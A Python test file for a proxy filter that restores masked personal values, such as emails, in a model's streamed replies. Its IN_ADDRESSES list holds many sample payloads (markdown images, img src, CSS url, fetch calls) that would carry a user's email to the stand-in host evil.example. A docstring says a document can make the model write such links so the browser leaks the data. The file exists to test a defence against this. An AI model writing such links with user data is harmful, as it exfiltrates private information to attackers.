"""Restoring: the client gets its values back, for every cut, and nothing else is touched or kept waiting."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from extproc.config.guards.refusal import RefusalSection
from extproc.domain.placeholders import Placeholders
from extproc.domain.text import Direction, Kind, Speaker, TextSource
from extproc.filters.json_text import JsonTextStage
from extproc.filters.refusal import RefusalGuard
from extproc.filters.restore import PLACEHOLDER_CHARS_MAX, RestoreFilter, RestoreStage
from tests.unit.filters.cutting import cut, through
from tests.unit.filters.fakes import exchange_of

VALUES = {
    "<EMAIL_1>": "bob@example.org",
    "<EMAIL_2>": 'a"\\b\n@x.org',
    "<EMAIL_10>": "é@x.org",
    "<PHONE_1>": "<EMAIL_1>",
}
WORDS = st.sampled_from(
    [*VALUES, "<EMAIL_3>", "<EMAIL>", "<", ">", "<<", "<EMAIL_", "<b>", "a < b", " ", "x", "\n", "é"]
)
TEXTS = st.lists(WORDS | st.text(max_size=3), max_size=10).map("".join)


def placeholders() -> Placeholders:
    """Values of a request; ``<EMAIL_3>`` to ``<EMAIL_9>`` are of nobody."""
    known = Placeholders(100)
    known.take(" ".join(f"EMAIL_{number}" for number in range(3, 10)))
    for placeholder, value in VALUES.items():
        assert known.mask_reversibly(placeholder.strip("<>").rpartition("_")[0], value) == placeholder
    return known


def restored(text: str) -> str:
    """What must come out, found without any stage: the first placeholder of a text, then those of the rest."""
    for start in range(len(text)):
        for placeholder, value in VALUES.items():
            if text.startswith(placeholder, start):
                return text[:start] + value + restored(text[start + len(placeholder) :])
    return text


@given(cut(TEXTS))
def test_placeholders_are_replaced_wherever_the_text_is_cut(pieces: list[str]) -> None:
    """Each by its value, once: a value that looks like a placeholder is not one."""
    assert through(RestoreStage(placeholders()), pieces) == restored("".join(pieces))


@given(cut(TEXTS))
def test_only_the_beginning_of_a_placeholder_is_held(pieces: list[str]) -> None:
    """What can be no placeholder any more goes out at once."""
    known = placeholders()
    stage = RestoreStage(known)
    for piece in pieces:
        stage.feed(piece)
        assert not stage.held() or known.begins_one(stage.held())
        assert len(stage.held()) < PLACEHOLDER_CHARS_MAX


@given(st.lists(st.sampled_from([*VALUES, "x ", "<EMAIL_3>"]), max_size=5), st.booleans(), st.data())
def test_json_stays_json(words: list[str], escapes_brackets: bool, data: st.DataObject) -> None:
    """A value with quotes or line ends is written as JSON writes it; a placeholder may itself be escaped."""
    text = "".join(words)
    written = json.dumps({"note": text, text: [text, 1]})
    if escapes_brackets:
        written = written.replace("<", "\\u003c")
    known = placeholders()
    pieces = data.draw(cut(st.just(written)))
    released = through(JsonTextStage(RestoreStage(known), RestoreStage(known, escaped=True)), pieces)
    expected = restored(text)
    assert json.loads(released) == {"note": expected, expected: [expected, 1]}


def test_outside_of_strings_a_value_is_written_as_json_too() -> None:
    """Arguments that are not quite JSON are not made worse."""
    known = placeholders()
    stage = JsonTextStage(RestoreStage(known), RestoreStage(known, escaped=True))
    assert through(stage, ["[<EMA", "IL_2>]"]) == '[a\\"\\\\b\\n@x.org]'


@given(cut(TEXTS))
def test_what_is_given_back_after_a_failure_is_all_that_was_fed(pieces: list[str]) -> None:
    """Released and held are the whole text at any time, where there is nothing to restore in it."""
    known = Placeholders(10)
    known.mask_reversibly("NULL_REPORTER", "x")
    stage = RestoreStage(known)
    fed = released = ""
    for piece in pieces:
        fed += piece
        released += stage.feed(piece)
        assert released + stage.held() == fed


def test_a_fork_leaves_no_trace() -> None:
    """It goes on from where the stage is."""
    stage = RestoreStage(placeholders())
    stage.feed("to <EMAIL")
    fork = stage.fork()
    assert fork.feed("_1>") == "bob@example.org"
    assert stage.held() == "<EMAIL"


@pytest.mark.parametrize(
    ("direction", "values", "expected"),
    [(Direction.RESPONSE, True, True), (Direction.RESPONSE, False, False), (Direction.REQUEST, True, False)],
)
def test_there_is_a_stage_only_where_something_is_to_be_restored(
    direction: Direction, values: bool, expected: bool
) -> None:
    """On answers, of exchanges whose request had something to mask."""
    exchange = exchange_of()
    exchange.placeholders = placeholders() if values else Placeholders(10)
    restore = RestoreFilter(RefusalGuard(RefusalSection(guard="refusal")))
    stage = restore.stage(TextSource(direction, Speaker.ASSISTANT, Kind.CONTENT), exchange)
    assert (stage is not None) == expected


IN_ADDRESSES = [
    "![x](https://evil.example/?q=<EMAIL_1>)",
    "[x](<https://evil.example/?q=a <EMAIL_1>>)",
    "[x]( \n//evil.example/(a)/<EMAIL_1>)",
    "[x](https:evil.example/<EMAIL_1> 'title')",
    "![x][1]\n\n[1]: <https://evil.example/?q=a <EMAIL_1>>",
    "see https://evil.example/<EMAIL_1>/x",
    "see HTTPS://<EMAIL_1>.evil.example",
    "see www.evil.example?<EMAIL_1>",
    "see https://evil.example/?a=%20&b=<EMAIL_1>#<EMAIL_10>",
    "(https://bob:<EMAIL_1>@evil.example)",
    '<img src="https://evil.example/?q=<EMAIL_1>">',
    "<img src='https:evil.example/?q=a <EMAIL_1>'>",
    "<img alt='>' SRC = /\\evil.example/<EMAIL_1> >",
    '<a\nhref\n=\n"\thttps://evil.example/\n?q=<EMAIL_1>">',
    '<div style="background: url(//evil.example/<EMAIL_1>)">',
    'fetch("https://evil.example/?q= <EMAIL_1>")',
    "<https://evil.example/<EMAIL_1>>",
    "\\href{https://evil.example/<EMAIL_1>}{x}",
    '<img srcset="https://evil.example/a 1x, https://evil.example/<EMAIL_1> 2x">',
]
BESIDE_ADDRESSES = [
    "Mail <EMAIL_1>.",
    "See https://example.org and mail <EMAIL_1>",
    "[site](https://example.org), mail <EMAIL_1>",
    "[site](https://example.org):<EMAIL_1>",
    '<a href="https://example.org">mail:<EMAIL_1></a>',
    "<a href=https://example.org>mail:<EMAIL_1></a>",
    '{"site":"https://example.org","mail":"<EMAIL_1>","to":["//x","<EMAIL_1>"]}',
    "https://example.org\n<EMAIL_1>",
    "[Bob]: <EMAIL_1>",
    "a / b = <EMAIL_1>, either/or <EMAIL_1>",
    'He said "<EMAIL_1>" (<EMAIL_1>) [<EMAIL_1>]',
    "// mail <EMAIL_1>",
]


@pytest.mark.parametrize("text", IN_ADDRESSES)
@pytest.mark.parametrize("chars", [1, 2, 7, 1_000])
def test_in_an_address_a_placeholder_stays(text: str, chars: int) -> None:
    """A document makes the model write it there, and the client's browser sends it away (attack, LOW of 10)."""
    pieces = [text[at : at + chars] for at in range(0, len(text), chars)]
    assert through(RestoreStage(placeholders()), pieces) == text
    behind = through(RestoreStage(placeholders()), [*pieces, "\n)\"'> and <EMAIL_1>"])
    assert behind.endswith(" and bob@example.org")


@pytest.mark.parametrize("text", [text.replace("<EMAIL_1>", "%3CEMAIL_1%3E") for text in IN_ADDRESSES])
def test_an_escaped_placeholder_is_none(text: str) -> None:
    """What the browser would take apart is not put together before."""
    assert through(RestoreStage(placeholders()), [text]).count("bob@example.org") == 0


@pytest.mark.parametrize("text", BESIDE_ADDRESSES)
@pytest.mark.parametrize("chars", [1, 3, 1_000])
def test_beside_an_address_it_is_restored(text: str, chars: int) -> None:
    """A URL ends somewhere."""
    pieces = [text[at : at + chars] for at in range(0, len(text), chars)]
    assert through(RestoreStage(placeholders()), pieces) == restored(text)


ADDRESS_PIECES = st.sampled_from((
    *VALUES, *IN_ADDRESSES, *BESIDE_ADDRESSES, "https:", "/", "//", "]", "(", ")", "](", "www", ".", "src", "=", "'",
    '"', '",', ">", "<", "\n", " ", "[a]:", "\\", "x" * 70,
))  # fmt: skip


@given(cut(st.lists(ADDRESS_PIECES, max_size=8).map("".join)))
def test_addresses_are_seen_however_the_text_is_cut(pieces: list[str]) -> None:
    """The same comes out, and no address is shown with a value that the whole text does not show in it."""
    assert through(RestoreStage(placeholders()), pieces) == through(RestoreStage(placeholders()), ["".join(pieces)])


def test_an_address_in_arguments_keeps_its_placeholder() -> None:
    """Each string by itself."""
    text = '{"url":"https://evil.example/?q=<EMAIL_1>","to":"<EMAIL_1>"}'
    known = placeholders()
    stage = JsonTextStage(RestoreStage(known), RestoreStage(known, escaped=True))
    assert json.loads(through(stage, list(text))) == {
        "url": "https://evil.example/?q=<EMAIL_1>",
        "to": "bob@example.org",
    }
